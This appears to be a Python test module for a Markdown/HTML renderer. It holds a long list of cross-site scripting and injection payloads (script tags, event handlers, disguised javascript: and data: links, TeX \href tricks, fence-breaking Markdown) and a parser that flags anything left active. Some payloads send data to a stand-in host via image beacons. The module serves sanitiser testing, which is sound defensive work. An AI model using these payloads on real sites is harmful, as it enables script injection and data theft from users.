"""Payloads that try to become active, and the judge of what a renderer made of them.

Every test that shows text of a model, a tool or a document runs it through `PAYLOADS` and asks
`active(html)`, which names what a browser would load, run or let a reader click.
"""

from __future__ import annotations

import html as _html
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS: tuple[str, ...] = (
    # raw HTML, block and inline
    "<script>alert(1)</script>",
    "text <script src=https://evil.example/x.js></script> text",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png?q=secret">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example></object><embed src=x>",
    "<form action=https://evil.example><input name=a><button>go</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<details><summary>swallow",
    "</details></summary></code></pre></small></p>",
    "<!-- comment --> <!-- open",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea><title>",
    "<b onmouseover=alert(1)>x</b><x-y onclick=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<code onclick=alert(1)>x</code><span style=x>y</span><br onclick=alert(1)>",
    "<code>a</code><script>alert(1)</script><code>",
    # schemes, plain and disguised
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript&colon;alert(1))",
    "[x](javascript&Tab;:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd) [x](blob:null/1) [x](about:blank)",
    "[x](//evil.example/a) [x](/\\evil.example) [x](\\\\evil.example)",
    "[x](https://docs.example@evil.example/) [x](https://evil.example\\@docs.example/)",
    "[x](http:evil.example) [x](https:///evil.example)",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "![x][1] ![1]\n\n[1]: https://evil.example/pixel.png",
    '[x](https://docs.example/ "a\\" onmouseover=\\"alert(1)")',
    "[x](https://docs.example/'onmouseover='alert(1))",
    '[x](mailto:a@b.c"onclick="alert(1))',
    # images and bare addresses
    "![x](https://evil.example/p.png?q=secret)",
    "![x](//evil.example/p.png) ![x](\\\\evil.example\\p.png)",
    "[![x](https://evil.example/p.png)](https://docs.example/)",
    "![![x](javascript:alert(1))](https://evil.example/a)",
    "![x](attachment:missing.png)",
    '![<img src=x onerror=alert(1)>](https://docs.example/i.png "><script>")',
    "![x](data:image/png;base64,AAAA) ![x](data:text/html,<script>alert(1)</script>)",
    "see https://evil.example/x?q=1 and www.evil.example/y and <https://evil.example/z>",
    "https&#58;//evil.example http&colon;//evil.example ht\\tps://evil.example",
    # one parser's code is another one's text
    "$`$ <script>alert(1)</script> `",
    "`$` <img src=x onerror=alert(1)> `$`",
    "cost $$ \n\n```\n$$ <script>alert(1)</script>\n```",
    "`$$`\n\n```\n$$\n<script>alert(1)</script>\n```",
    "\\\\[ \n\n```\n\\\\] <script>alert(1)</script>\n```",
    "`\\begin{a}`\n\n```\n\\end{a}<script>alert(1)</script>\n```",
    "`a\n- ` <script>alert(1)</script>",
    "``` `<script>alert(1)</script>` ```",
    "a \\`<script>alert(1)</script>`",
    "| a | b |\n|---|---|\n| `x | <script>alert(1)</script>` |",
    "- ```\n<script>alert(1)</script>\n",
    "> ```\n<script>alert(1)</script>\n",
    "1. a\n\n   ~~~\n   ```\n   <script>alert(1)</script>\n   ~~~",
    "    indented <script>alert(1)</script>\n\n<script>alert(1)</script>",
    "term\n: <script>alert(1)</script>",
    "foo[^1]\n\n[^1]: <script>alert(1)</script>",
    "```\nunclosed <script>alert(1)</script>",
    "~~~\n```\n<script>alert(1)</script>",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "```mermaid\nflowchart TD\n  A@{ img: 'https://evil.example/p.png' }\n```",
    '```py"onclick="alert(1)\nx\n```',
    "``````\n```\n</code></pre><script>alert(1)</script>\n",
    # TeX
    "$x<script>alert(1)</script>$ and $$<img src=x onerror=alert(1)>$$",
    "$\\href{javascript:alert(1)}{x}$ $$\\style{background:url(https://evil.example)}{x}$$",
    "\\(\\href{javascript:alert(1)}{x}\\) \\begin{a}\\href{javascript:alert(1)}{x}\\end{a}",
    "5$ \\href{javascript:alert(1)}{x} 6$ \\\\(\\href{javascript:alert(1)}{x}\\\\)",
    "$$\n[a]: https://evil.example/p.png\n$$\n\n$![a]$ $![x](https://evil.example/p.png)$",
    "$$\n~~~\n$$\n\n```\n~~~\n<script>alert(1)</script>\n```",
    "\\require{html}\\class{x}{y} \\def\\a{\\href}\\a{javascript:alert(1)}{x}",
    # entities, controls, direction
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;script&amp;gt;",
    "&#10;&#10;# x&#10;<script>alert(1)</script>",
    "\x00<script>\x00alert(1)</script>\x1b[31m\x0b\x0c\x85\u2028",
    "\u202e</tpircs>(1)trela<tpircs>\u2066 \ud800",
    "'\"--></style></script><script>alert(1)</script>",
    "{{7*7}} ${7*7} <%= 7 %> %matplotlib !ls",
    "<" * 60 + "[" * 60 + "`" * 61 + "*" * 60,
    "> " * 50 + "<script>alert(1)</script>",
    "- " * 50 + "```\n<script>alert(1)</script>",
)

_TAGS = re.compile(
    r"a|blockquote|br|code|d[dlt]|del|details|div|em|h[1-6r]|img|input|li|ol|p|pre|s|small|span"
    r"|strong|summary|table|tbody|td|th|thead|tr|ul"
)
_ATTRIBUTES = re.compile(r"alt|checked|class|disabled|href|id|src|start|style|title|type")
_ONLY_ALIGN = re.compile(r"text-align:\s?(left|right|center);?")
_TEX = re.compile(r"\\(href|url|style|class|cssId|require|html\w*|bbox|mmlToken|def|let)\b")
_DATA_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*")


class _Judge(HTMLParser):
    def __init__(self, hosts: frozenset[str], data_images: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.hosts, self.data_images = hosts, data_images
        self.found: list[str] = []
        self.code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not _TAGS.fullmatch(tag):
            self.found.append(f"<{tag}>")
        self.code += tag in ("code", "pre")
        given = {name: value or "" for name, value in attrs}
        for name, value in given.items():
            if not _ATTRIBUTES.fullmatch(name):
                self.found.append(f"{tag} {name}={value}")
            elif name == "style" and not _ONLY_ALIGN.fullmatch(value):
                self.found.append(f"style={value}")
            elif name in ("href", "src") and not self._fine(value, name):
                self.found.append(f"{name}={value}")
        if tag == "input" and given.get("type") != "checkbox":
            self.found.append("<input>")

    def handle_endtag(self, tag: str) -> None:
        self.code -= tag in ("code", "pre")

    def handle_data(self, data: str) -> None:
        if not self.code and (m := _TEX.search(data)):
            self.found.append(m[0])

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}")

    def _fine(self, url: str, name: str) -> bool:
        if url.startswith("#"):
            return name == "href"
        bare = re.sub(r"[\x00-\x20]", "", _html.unescape(url)).replace("\\", "/").lower()
        parts = urlsplit(bare)
        if parts.scheme in ("http", "https"):
            return parts.hostname in self.hosts
        if name == "src":
            return self.data_images and bool(_DATA_IMAGE.fullmatch(url))
        return parts.scheme == "mailto" or not (parts.scheme or parts.netloc or ":" in bare)


def active(
    page: str, hosts: frozenset[str] = frozenset(), *, data_images: bool = False
) -> list[str]:
    """What in `page` is neither inert nor on an allow-listed host; empty is good."""
    judge = _Judge(hosts, data_images)
    judge.feed(page)
    judge.close()
    return judge.found
